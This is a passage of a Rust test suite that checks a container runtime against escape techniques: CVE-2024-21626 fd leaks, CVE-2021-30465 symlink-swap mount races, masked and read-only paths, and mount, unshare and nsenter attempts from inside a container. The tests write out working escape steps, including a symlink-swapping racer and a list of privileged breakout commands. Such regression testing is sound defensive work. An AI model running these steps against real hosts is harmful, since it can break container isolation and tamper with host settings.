    let out = rt.run(&b, &unique("esc-fds-rl"));
    out.ok();
    assert_only_stdio("rootless run", &out.stdout);
    looping(&b);
    let id = unique("esc-fds-rl-exec");
    start_ready(&rt, &b, &id, "tmp/ready");
    let out = rt.output(&["exec", &id, "sh", "-c", FD_PROBE]);
    out.ok();
    assert_only_stdio("rootless exec", &out.stdout);
}

/// Runs the runtime with two extra fds, 3 and 4, open (not close-on-exec).
fn output_with_fds(rt: &Runtime, args: &[&str], fd3: &fs::File, fd4: &fs::File) -> Output {
    let (a, b) = (fd3.as_raw_fd(), fd4.as_raw_fd());
    let mut cmd = rt.cmd(args);
    cmd.stdout(Stdio::piped()).stderr(Stdio::piped());
    // SAFETY: the closure runs in the forked child before exec and only
    // calls fcntl and dup2, which are async-signal-safe; it touches no
    // memory shared with the parent beyond the two copied integers.
    unsafe {
        cmd.pre_exec(move || {
            // Move both out of the way first, so neither dup2 clobbers the
            // other's source.
            let ha = libc::fcntl(a, libc::F_DUPFD, 100);
            let hb = libc::fcntl(b, libc::F_DUPFD, 100);
            if ha < 0 || hb < 0 || libc::dup2(ha, 3) < 0 || libc::dup2(hb, 4) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            libc::close(ha);
            libc::close(hb);
            Ok(())
        });
    }
    let out = cmd.output().expect("running husk-runtime");
    Output {
        status: out.status,
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

const PRESERVE_PROBE: &str = "cat <&3; echo; echo --sh--; ls -l /proc/$$/fd; echo --end--; \
     cat <&4 2>/dev/null && echo READ-FD4; true";

fn assert_preserved_only_fd3(what: &str, out: &Output, passed: &str) {
    out.ok();
    assert!(
        out.stdout.contains(passed),
        "{what}: fd 3 not passed: {out}"
    );
    let fds = ls_fds(&section(&out.stdout, "sh"));
    let nums: Vec<u32> = fds.iter().map(|(fd, _)| *fd).collect();
    assert_eq!(nums, [0, 1, 2, 3], "{what}: {out}");
    assert!(
        fds[3].1.ends_with("/three"),
        "{what}: fd 3 is {:?}: {out}",
        fds[3]
    );
    assert!(
        !out.stdout.contains("READ-FD4"),
        "{what}: fd 4 leaked: {out}"
    );
    assert!(!out.stdout.contains("NOT-PASSED"), "{what}: {out}");
}

#[test]
fn cve_2024_21626_preserve_fds_passes_exactly_the_fds_asked_for() {
    let rt = Runtime::new();
    let dir = tempfile::tempdir().unwrap();
    let passed = unique("PASSED-FD");
    fs::write(dir.path().join("three"), &passed).unwrap();
    fs::write(dir.path().join("four"), "NOT-PASSED").unwrap();
    let f3 = fs::File::open(dir.path().join("three")).unwrap();
    let f4 = fs::File::open(dir.path().join("four")).unwrap();
    let b = Bundle::new("busybox", &["sh", "-c", PRESERVE_PROBE]);
    let bundle = b.path().to_str().unwrap().to_owned();
    let id = unique("esc-pfd");
    let out = output_with_fds(
        &rt,
        &["run", "--preserve-fds", "1", "--bundle", &bundle, &id],
        &f3,
        &f4,
    );
    assert_preserved_only_fd3("run --preserve-fds 1", &out, &passed);

    looping(&b);
    let id = unique("esc-pfd-exec");
    start_ready(&rt, &b, &id, "tmp/ready");
    // Reopen: the run above consumed the file offsets.
    let f3 = fs::File::open(dir.path().join("three")).unwrap();
    let f4 = fs::File::open(dir.path().join("four")).unwrap();
    let out = output_with_fds(
        &rt,
        &[
            "exec",
            "--preserve-fds",
            "1",
            &id,
            "sh",
            "-c",
            PRESERVE_PROBE,
        ],
        &f3,
        &f4,
    );
    assert_preserved_only_fd3("exec --preserve-fds 1", &out, &passed);
}

// ---------------------------------------------------------------------------
// 3. CVE-2021-30465: mount destinations swapped to symlinks leading out
// ---------------------------------------------------------------------------

/// A host directory the attacks aim at, removed on drop.
struct HostTarget {
    path: PathBuf,
}

impl HostTarget {
    fn new(prefix: &str) -> HostTarget {
        let path = std::env::temp_dir().join(unique(prefix));
        fs::create_dir(&path).unwrap();
        HostTarget { path }
    }

    fn name(&self) -> String {
        self.path
            .file_name()
            .unwrap()
            .to_string_lossy()
            .into_owned()
    }

    fn entries(&self) -> Vec<String> {
        let mut v: Vec<String> = fs::read_dir(&self.path)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        v.sort();
        v
    }

    /// Host mountinfo lines naming this directory.
    fn host_mounts(&self) -> Vec<String> {
        let name = self.name();
        read_or_empty(Path::new("/proc/self/mountinfo"))
            .lines()
            .filter(|l| l.contains(&name))
            .map(str::to_owned)
            .collect()
    }
}

impl Drop for HostTarget {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.path);
    }
}

fn exchange(a: &Path, b: &Path) -> std::io::Result<()> {
    use std::os::unix::ffi::OsStrExt;
    let ca = std::ffi::CString::new(a.as_os_str().as_bytes()).unwrap();
    let cb = std::ffi::CString::new(b.as_os_str().as_bytes()).unwrap();
    // SAFETY: both are valid NUL-terminated paths that outlive the call.
    let rc = unsafe {
        libc::syscall(
            libc::SYS_renameat2,
            libc::AT_FDCWD,
            ca.as_ptr(),
            libc::AT_FDCWD,
            cb.as_ptr(),
            libc::RENAME_EXCHANGE,
        )
    };
    if rc == 0 {
        Ok(())
    } else {
        Err(std::io::Error::last_os_error())
    }
}

/// Lines of a container's mountinfo (printed after `--mi--`) whose source
/// is `source`: (mount point, fs type).
fn container_mounts_of(out: &str, source: &str) -> Vec<(String, String)> {
    out.split("--mi--\n")
        .nth(1)
        .unwrap_or("")
        .lines()
        .filter_map(|l| {
            let (left, right) = l.split_once(" - ")?;
            let point = left.split_whitespace().nth(4)?.to_owned();
            let mut r = right.split_whitespace();
            let fstype = r.next()?.to_owned();
            (r.next()? == source).then_some((point, fstype))
        })
        .collect()
}

#[test]
fn cve_2021_30465_mount_destination_raced_with_symlink_swaps() {
    let rt = Runtime::new();
    let host = HostTarget::new("husk-esc-race-host");
    let b = Bundle::new(
        "busybox",
        &[
            "sh",
            "-c",
            "echo ATTEMPTED; echo --mi--; cat /proc/self/mountinfo",
        ],
    );
    let rootfs = b.rootfs();
    // /data is swapped (RENAME_EXCHANGE) with an absolute and a relative
    // symlink that both lead to the host directory if followed from the host.
    let data = rootfs.join("data");
    fs::create_dir_all(data.join("sub/deeper")).unwrap();
    // The symlinks resolve, inside the root, to this copy of the tree (a
    // dangling one makes the runtime refuse the mount, which proves less).
    let inside = rootfs.join(host.path.strip_prefix("/").unwrap());
    fs::create_dir_all(inside.join("sub/deeper")).unwrap();
    let abs = rootfs.join("data-abs");
    let rel = rootfs.join("data-rel");
    std::os::unix::fs::symlink(&host.path, &abs).unwrap();
    std::os::unix::fs::symlink(
        format!(
            "{}{}",
            "../".repeat(16),
            host.path.display().to_string().trim_start_matches('/')
        ),
        &rel,
    )
    .unwrap();
    let tag = unique("husk-race");
    b.add_mount(json!({
        "destination": "/data/sub/deeper", "type": "tmpfs", "source": tag,
        "options": ["nosuid", "nodev", "size=1m"]
    }));
    b.add_mount(json!({
        "destination": "/data/newdir/made", "type": "tmpfs", "source": format!("{tag}-new"),
        "options": ["size=1m"]
    }));
    let volume = tempfile::tempdir().unwrap();
    fs::write(volume.path().join("vol-file"), "volume").unwrap();
    b.add_mount(json!({
        "destination": "/data/vol", "type": "bind", "source": volume.path(),
        "options": ["rbind", "rw"]
    }));
    let host_mounts_before = host.host_mounts();
    let bundle_mounts_before = husk_tests::bundle::mounts_under(b.path()).len();

    let stop = AtomicBool::new(false);
    let swaps = AtomicU64::new(0);
    let (mut ok, mut refused, mut sources_seen) = (0, 0, 0);
    let mut errors: Vec<String> = Vec::new();
    thread::scope(|s| {
        s.spawn(|| {
            let mut i = 0u64;
            while !stop.load(Ordering::Relaxed) {
                let partner = if i % 2 == 0 { &abs } else { &rel };
                if exchange(&data, partner).is_ok() {
                    thread::yield_now();
                    let _ = exchange(&data, partner);
                    swaps.fetch_add(1, Ordering::Relaxed);
                }
                i += 1;
            }
        });
        for _ in 0..30 {
            let out = rt.run(&b, &unique("esc-race"));
            if out.status.success() {
                ok += 1;
                assert!(out.stdout.contains("ATTEMPTED"), "{out}");
                // Every mount the spec asked for is inside the container's
                // root (mountinfo only lists what the root reaches).
                for src in [tag.clone(), format!("{tag}-new")] {
                    let m = container_mounts_of(&out.stdout, &src);
                    assert!(
                        m.iter().any(|(_, t)| t == "tmpfs"),
                        "tmpfs {src} is not inside the container (mounted outside its \
                         root?): {out}"
                    );
                    sources_seen += 1;
                }
            } else {
                refused += 1;
                assert!(out.stderr.contains("husk-runtime: "), "{out}");
                let e = out.stderr.replace(rootfs.to_str().unwrap(), "<rootfs>");
                if !errors.contains(&e) {
                    errors.push(e);
                }
            }
            assert!(
                host.entries().is_empty(),
                "the runtime created {:?} in the host directory: {out}",
                host.entries()
            );
        }
        stop.store(true, Ordering::Relaxed);
    });
    let swaps = swaps.into_inner();
    eprintln!(
        "30 runs while swapping /data {swaps} times: {ok} ran, {refused} refused: {errors:?}"
    );
    assert!(
        ok > 0,
        "no run got through the race, so nothing was mounted: {errors:?}"
    );
    assert!(swaps >= 30, "the swapper barely ran: {swaps} swaps");
    assert_eq!(host.entries(), Vec::<String>::new());
    assert_eq!(
        host.host_mounts(),
        host_mounts_before,
        "mount leaked onto host"
    );
    assert_eq!(
        husk_tests::bundle::mounts_under(b.path()).len(),
        bundle_mounts_before,
        "mounts leaked onto the host"
    );
    assert_eq!(sources_seen, 2 * ok);
}

/// One run of the planted-symlink attack; with `counterpart`, the paths the
/// links name also exist inside the rootfs, so the runtime can follow them
/// there (without, the links dangle inside the root).
fn planted_symlinks_run(counterpart: bool) {
    let rt = Runtime::new();
    let host = HostTarget::new("husk-esc-plant-host");
    fs::write(host.path.join("victim"), "HOST-ORIGINAL").unwrap();
    let b = Bundle::new(
        "busybox",
        &[
            "sh",
            "-c",
            "echo ATTEMPTED; echo \"VICTIM=$(cat /etc/victim 2>&1)\"; \
             echo --mi--; cat /proc/self/mountinfo",
        ],
    );
    let rootfs = b.rootfs();
    let host_str = host.path.display().to_string();
    let inside = rootfs.join(host_str.trim_start_matches('/'));
    if counterpart {
        fs::create_dir_all(&inside).unwrap();
        fs::write(inside.join("victim"), "ROOTFS-COPY").unwrap();
    }
    std::os::unix::fs::symlink(&host.path, rootfs.join("abs")).unwrap();
    std::os::unix::fs::symlink(
        format!("{}{}", "../".repeat(16), host_str.trim_start_matches('/')),
        rootfs.join("rel"),
    )
    .unwrap();
    std::os::unix::fs::symlink(host.path.join("victim"), rootfs.join("etc/victim")).unwrap();
    let tag = unique("husk-plant");
    let volume = tempfile::tempdir().unwrap();
    fs::write(volume.path().join("file"), "FROM-VOLUME").unwrap();
    b.add_mount(json!({
        "destination": "/abs/t1", "type": "tmpfs", "source": format!("{tag}-abs"),
        "options": ["size=1m"]
    }));
    b.add_mount(json!({
        "destination": "/rel/t2", "type": "tmpfs", "source": format!("{tag}-rel"),
        "options": ["size=1m"]
    }));
    b.add_mount(json!({
        "destination": format!("/../../../..{host_str}/dotdot"), "type": "tmpfs",
        "source": format!("{tag}-dotdot"), "options": ["size=1m"]
    }));
    b.add_mount(json!({
        "destination": "/etc/victim", "type": "bind",
        "source": volume.path().join("file"), "options": ["bind", "ro"]
    }));
    let before = host.host_mounts();
    let out = rt.run(&b, &unique("esc-plant"));
    eprintln!("counterpart={counterpart}: {out}");
    assert_eq!(host.entries(), ["victim"], "host dir changed: {out}");
    assert_eq!(
        fs::read_to_string(host.path.join("victim")).unwrap(),
        "HOST-ORIGINAL"
    );
    assert_eq!(host.host_mounts(), before, "mount leaked onto the host");
    if counterpart {
        // Everything resolves inside the root, so the run must work.
        out.ok();
    }
    if out.status.success() {
        assert!(out.stdout.contains("ATTEMPTED"), "{out}");
        for suffix in ["abs", "rel", "dotdot"] {
            let m = container_mounts_of(&out.stdout, &format!("{tag}-{suffix}"));
            assert!(
                m.iter()
                    .any(|(p, t)| t == "tmpfs" && p.starts_with(&host_str)),
                "tmpfs {tag}-{suffix} not at {host_str}/... inside the root: {out}"
            );
        }
        // The bind mount lands where the link points inside the root.
        assert!(
            out.stdout.contains("VICTIM=FROM-VOLUME"),
            "the file bind mount is not where /etc/victim leads inside the root: {out}"
        );
        assert!(inside.join("dotdot").is_dir(), "{out}");
    } else {
        assert!(out.stderr.contains("husk-runtime: "), "{out}");
    }
}

#[test]
fn cve_2021_30465_planted_symlinks_at_mount_destinations_stay_inside() {
    planted_symlinks_run(true);
}

#[test]
fn cve_2021_30465_planted_dangling_symlinks_at_mount_destinations_do_not_escape() {
    planted_symlinks_run(false);
}

// ---------------------------------------------------------------------------
// 4. maskedPaths
// ---------------------------------------------------------------------------

fn string_list(v: &Value) -> Vec<String> {
    v.as_array()
        .map(|a| {
            a.iter()
                .filter_map(|s| s.as_str().map(str::to_owned))
                .collect()
        })
        .unwrap_or_default()
}

/// A script that prints `PATH=<bytes or entries>` for every masked path
/// the host has, reading as much as it can.
fn masked_probe(masked: &[String]) -> (String, Vec<String>) {
    let mut script = String::from("echo ATTEMPTED; ");
    let mut checked = Vec::new();
    for p in masked {
        let Ok(meta) = fs::metadata(p) else { continue };
        if meta.is_dir() {
            script.push_str(&format!("echo \"{p}=$(ls -A {p} 2>/dev/null | wc -l)\"; "));
        } else {
            script.push_str(&format!(
                "echo \"{p}=$(dd if={p} bs=4096 count=1 2>/dev/null | wc -c)\"; "
            ));
        }
        checked.push(p.clone());
    }
    (script, checked)
}

fn assert_masked(what: &str, out: &Output, checked: &[String]) {
    out.ok();
    assert!(out.stdout.contains("ATTEMPTED"), "{what}: {out}");
    let kv = kv_lines(&out.stdout);
    for p in checked {
        assert_eq!(
            value_of(&kv, p),
            Some("0"),
            "{what}: {p} is readable in the container: {out}"
        );
    }
}

#[test]
fn masked_paths_hide_host_information_rootful() {
    let rt = Runtime::new();
    let b = Bundle::new("busybox", &["true"]);
    default_readonly_root(&b);
    let masked = string_list(&b.config()["linux"]["maskedPaths"]);
    let (script, checked) = masked_probe(&masked);
    assert!(!checked.is_empty(), "the host has none of {masked:?}");
    // At least one of them says something on the host, as root.
    let informative = checked.iter().any(|p| match fs::metadata(p) {
        Ok(m) if m.is_dir() => fs::read_dir(p).map(|d| d.count() > 0).unwrap_or(false),
        Ok(_) => {
            let mut buf = [0u8; 64];
            fs::File::open(p)
                .and_then(|mut f| std::io::Read::read(&mut f, &mut buf))
                .map(|n| n > 0)
                .unwrap_or(false)
        }
        Err(_) => false,
    });
    assert!(informative, "every masked path is empty on the host too");
    b.set_args(&["sh", "-c", &script]);
    let out = rt.run(&b, &unique("esc-mask"));
    eprintln!("checked {checked:?}: {out}");
    assert_masked("rootful", &out, &checked);
}

#[test]
fn masked_paths_hide_host_information_rootless() {
    let user = rootless_test("masked_paths_hide_host_information_rootless");
    let rt = Runtime::rootless(&user);
    let b = Bundle::rootless(&user, IdMapping::Multi, "busybox", &["true"]);
    default_readonly_root(&b);
    let masked = string_list(&b.config()["linux"]["maskedPaths"]);
    let (script, checked) = masked_probe(&masked);
    assert!(!checked.is_empty(), "the host has none of {masked:?}");
    b.set_args(&["sh", "-c", &script]);
    let out = rt.run(&b, &unique("esc-mask-rl"));
    eprintln!("checked {checked:?}: {out}");
    assert_masked("rootless", &out, &checked);
}

// ---------------------------------------------------------------------------
// 5. readonlyPaths and the read-only /sys
// ---------------------------------------------------------------------------

/// Current value of a sysfs selector file such as `always [madvise] never`.
fn selected(text: &str) -> Option<String> {
    let start = text.find('[')?;
    let end = text[start..].find(']')? + start;
    Some(text[start + 1..end].to_owned())
}

/// Write attempts that would all be harmless if they went through: each
/// writes back the value the file already has (or a sysrq help request).
fn readonly_targets() -> Vec<(String, String)> {
    let mut t = vec![
        (
            "/proc/sys/kernel/hostname".to_owned(),
            "husk-test".to_owned(),
        ),
        ("/proc/sysrq-trigger".to_owned(), "h".to_owned()),
    ];
    t.retain(|(p, _)| Path::new(p).exists());
    for p in [
        "/proc/sys/vm/overcommit_memory",
        "/proc/sys/kernel/core_pattern",
    ] {
        if let Ok(v) = fs::read_to_string(p) {
            t.push((p.to_owned(), v.trim_end().to_owned()));
        }
    }
    let thp = "/sys/kernel/mm/transparent_hugepage/enabled";
    if let Some(v) = fs::read_to_string(thp).ok().and_then(|s| selected(&s)) {
        t.push((thp.to_owned(), v));
    }
    t
}

fn readonly_probe(targets: &[(String, String)]) -> String {
    let mut s = String::from("echo ATTEMPTED; ");
    for (p, v) in targets {
        s.push_str(&format!(
            "if msg=$( {{ printf '%s\\n' '{v}' > {p}; }} 2>&1 ); then echo '{p}=WROTE'; \
             else echo \"{p}=FAIL $msg\"; fi; "
        ));
    }
    // A new cgroup under the container's /sys/fs/cgroup.
    s.push_str(
        "if msg=$(mkdir /sys/fs/cgroup/husk-escape 2>&1); then echo 'cgroup-mkdir=WROTE'; \
         rmdir /sys/fs/cgroup/husk-escape; else echo \"cgroup-mkdir=FAIL $msg\"; fi; ",
    );
    s
}

fn assert_readonly(what: &str, out: &Output, targets: &[(String, String)]) {
    out.ok();
    assert!(out.stdout.contains("ATTEMPTED"), "{what}: {out}");
    let kv = kv_lines(&out.stdout);
    let keys = targets
        .iter()
        .map(|(p, _)| p.as_str())
        .chain(["cgroup-mkdir"]);
    for key in keys {
        let v = value_of(&kv, key).unwrap_or_else(|| panic!("{what}: no line for {key}: {out}"));
        assert!(
            v.starts_with("FAIL")
                && (v.contains("Read-only file system") || v.contains("Permission denied")),
            "{what}: write to {key} was not refused with EROFS/EACCES: {v}\n{out}"
        );
    }
}

#[test]
fn readonly_paths_refuse_writes_rootful() {
    let rt = Runtime::new();
    let targets = readonly_targets();
    let b = Bundle::new("busybox", &["sh", "-c", &readonly_probe(&targets)]);
    default_readonly_root(&b);
    let host_values: Vec<String> = targets
        .iter()
        .filter(|(p, _)| !p.contains("sysrq") && !p.contains("hostname"))
        .map(|(p, _)| read_or_empty(Path::new(p)))
        .collect();
    let out = rt.run(&b, &unique("esc-ro"));
    eprintln!("{out}");
    assert_readonly("rootful", &out, &targets);
    let after: Vec<String> = targets
        .iter()
        .filter(|(p, _)| !p.contains("sysrq") && !p.contains("hostname"))
        .map(|(p, _)| read_or_empty(Path::new(p)))
        .collect();
    assert_eq!(host_values, after, "host settings changed");
}

#[test]
fn readonly_paths_refuse_writes_rootless() {
    let user = rootless_test("readonly_paths_refuse_writes_rootless");
    let rt = Runtime::rootless(&user);
    let targets = readonly_targets();
    let b = Bundle::rootless(
        &user,
        IdMapping::Multi,
        "busybox",
        &["sh", "-c", &readonly_probe(&targets)],
    );
    default_readonly_root(&b);
    let out = rt.run(&b, &unique("esc-ro-rl"));
    eprintln!("{out}");
    assert_readonly("rootless", &out, &targets);
}

// ---------------------------------------------------------------------------
// 6. mount, umount, unshare and nsenter from inside
// ---------------------------------------------------------------------------

/// Each line: a name and a command that must fail in a default container.
/// The nested-user-namespace lines try to undo the masks and mounts from a
/// fresh user namespace, where the process would have every capability.
const PRIV_ATTEMPTS: &[(&str, &str)] = &[
    ("mount-tmpfs", "mount -t tmpfs none /tmp/m"),
    ("mount-bind-root", "mount --bind / /tmp/m"),
    ("mount-proc", "mount -t proc proc /tmp/m"),
    ("umount-masked", "umount /proc/timer_list"),
    ("umount-lazy-sys", "umount -l /sys"),
    ("remount-proc-sys-rw", "mount -o remount,rw /proc/sys"),
    ("unshare-mount", "unshare -m true"),
    ("unshare-pid-net", "unshare -p -n -f true"),
    ("nsenter-init-mnt", "nsenter -t 1 -m true"),
    ("nsenter-net-path", "nsenter --net=/proc/1/ns/net true"),
    ("mknod-disk", "mknod /tmp/disk b 8 0"),
    ("chroot", "chroot / true"),
    (
        "userns-umount-masked",
        "unshare -U -r -m sh -c 'umount /proc/timer_list || umount -l /proc/timer_list'",
    ),
    (
        "userns-remount-proc-sys",
        "unshare -U -r -m mount -o remount,rw /proc/sys",
    ),
    (
        "userns-fresh-proc",
        "unshare -U -r -m -p -f mount -t proc proc /tmp/m",
    ),
    (
        "userns-fresh-sysfs",
        "unshare -U -r -m -n mount -t sysfs sysfs /tmp/m",
    ),
];

fn priv_probe() -> String {
    let mut s = String::from("mkdir -p /tmp/m; echo ATTEMPTED; ");
    for (name, cmd) in PRIV_ATTEMPTS {
        s.push_str(&format!(
            "if msg=$( {cmd} 2>&1 ); then echo '{name}=OK'; \
             else echo \"{name}=FAIL $msg\" | head -1; fi; "
        ));
    }
    // Not an escape by itself: whether a nested user namespace may be made.
    s.push_str(
        "if unshare -U -r true 2>/dev/null; then echo 'info-userns=allowed'; \
         else echo 'info-userns=refused'; fi; ",
    );
    s.push_str(
        "echo \"timer_list=$(dd if=/proc/timer_list bs=4096 count=1 2>/dev/null | wc -c)\"; ",
    );
    s
}

fn assert_priv_refused(what: &str, out: &Output) {
    out.ok();
    assert!(out.stdout.contains("ATTEMPTED"), "{what}: {out}");
    let kv = kv_lines(&out.stdout);
    for (name, _) in PRIV_ATTEMPTS {
        let v = value_of(&kv, name).unwrap_or_else(|| panic!("{what}: no line for {name}: {out}"));
        assert!(v.starts_with("FAIL"), "{what}: `{name}` succeeded: {out}");
        // The applet ran and was refused by the kernel (not missing).
        assert!(
            !v.contains("not found") && !v.contains("applet"),
            "{what}: `{name}` did not run: {v}"
        );
    }
    if Path::new("/proc/timer_list").exists() {
        assert_eq!(
            value_of(&kv, "timer_list"),
            Some("0"),
            "{what}: /proc/timer_list unmasked: {out}"
        );
    }
    eprintln!(
        "{what}: nested user namespace {}",
        value_of(&kv, "info-userns").unwrap_or("?")
    );
}

#[test]
fn mount_unshare_and_nsenter_fail_in_a_default_container_rootful() {
    let rt = Runtime::new();
    let b = Bundle::new("busybox", &["sh", "-c", &priv_probe()]);
    let caps = string_list(&b.config()["process"]["capabilities"]["bounding"]);
    assert!(
        !caps.iter().any(|c| c == "CAP_SYS_ADMIN"),
        "the default spec keeps CAP_SYS_ADMIN: {caps:?}"
    );
    let out = rt.run(&b, &unique("esc-priv"));
    eprintln!("{out}");
    assert_priv_refused("rootful", &out);
}

#[test]
fn mount_unshare_and_nsenter_fail_in_a_default_container_rootless() {
    let user = rootless_test("mount_unshare_and_nsenter_fail_in_a_default_container_rootless");
    let rt = Runtime::rootless(&user);
    let b = Bundle::rootless(
        &user,
        IdMapping::Multi,
        "busybox",
        &["sh", "-c", &priv_probe()],
    );
    let out = rt.run(&b, &unique("esc-priv-rl"));
    eprintln!("{out}");
    assert_priv_refused("rootless", &out);
}
